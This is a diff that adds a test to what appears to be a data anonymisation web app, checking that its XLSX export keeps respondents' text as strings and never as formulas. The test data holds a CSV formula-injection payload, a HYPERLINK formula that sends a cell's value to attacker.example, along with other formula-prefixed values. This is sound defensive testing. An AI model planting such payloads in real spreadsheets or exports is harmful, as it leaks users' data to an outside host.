@@ -274,6 +274,40 @@ def test_sqlite_download_without_a_release_leads_to_export(client: TestClient) -
     assert response.url.path == "/export"
 
 
+# ------------------------------------------------------------------------- xlsx export
+
+def test_xlsx_download_holds_text_never_formulas(client: TestClient,
+                                                tmp_path: pathlib.Path) -> None:
+    """Respondents' text (a cell and a header beginning with =, +, - or @) stays text."""
+    openpyxl = pytest.importorskip("openpyxl")
+    texts = ['=HYPERLINK("http://attacker.example/?leak="&A2,"details")', "+1+2", "-3",
+             "@SUM(A1)"]
+    rows = [f"{city},{1000 + 37 * i},\"{texts[i % 4].replace(chr(34), chr(34) * 2)}\""
+            for i, city in enumerate(CITIES * 6)]
+    content = "city,income,=note\n" + "\n".join(rows) + "\n"
+    assert upload(client, "answers.csv", content.encode()).status_code == 200
+    client.get("/roles")
+    response = client.post("/roles", data={"csrf_token": csrf(client, "/roles"),
+                                           "role-0": "quasi-identifier", "type-0": "categorical",
+                                           "role-1": "other", "type-1": "numeric",
+                                           "role-2": "other", "type-2": "categorical"})
+    assert "Roles saved" in response.text
+    _release(client, k="3", method="mage")
+    assert 'id="download-xlsx" href="/export/published.xlsx"' in client.get("/export").text
+    response = client.get("/export/published.xlsx")
+    assert response.status_code == 200
+    assert response.headers["content-disposition"] == 'attachment; filename="published.xlsx"'
+    file = tmp_path / "published.xlsx"
+    file.write_bytes(response.content)
+    sheet = openpyxl.load_workbook(file).active
+    notes = [row[0] for row in sheet.iter_rows(min_col=3, max_col=3)]
+    assert [(c.value, c.data_type) for c in notes[:5]] == [("=note", "s")] + [
+        (text, "s") for text in texts]
+    assert {c.data_type for c in notes} == {"s"}
+    csv = pd.read_csv(io.BytesIO(client.get("/export/published.csv").content))
+    pd.testing.assert_frame_equal(pd.read_excel(file), csv, check_dtype=False)
+
+
 # ---------------------------------------------------------------------- hierarchies
 
 def test_roles_page_offers_a_hierarchy_per_categorical_column(client: TestClient) -> None:
